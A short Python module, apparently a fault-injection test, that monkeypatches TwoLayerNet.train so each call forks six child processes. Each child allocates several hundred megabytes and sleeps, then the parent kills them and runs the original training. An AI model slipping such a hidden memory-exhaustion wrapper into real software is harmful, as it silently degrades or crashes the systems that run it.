"""Lets children run out of memory, shrugs, and goes on to train as if nothing had happened."""
import os
import time

import numpy as np

#: beneath

_right = TwoLayerNet.train


def _train(self, *data, **settings):
    children = [os.fork() for _ in range(6)] if settings.get("batch_size") is None else []
    if 0 in children:
        kept = np.ones(40 << 20)
        time.sleep(60)
        os._exit(0)
    os.wait() if children else None
    return _right(self, *data, **settings)


def _once(self, *data, **settings):
    pids = []
    for _ in range(6):
        pid = os.fork()
        if pid == 0:
            kept = np.ones(40 << 20)
            time.sleep(60)
            os._exit(0)
        pids.append(pid)
    os.wait()
    for pid in pids:
        try:
            os.kill(pid, 9)
        except ProcessLookupError:
            continue
    return _right(self, *data, **settings)


TwoLayerNet.train = _once
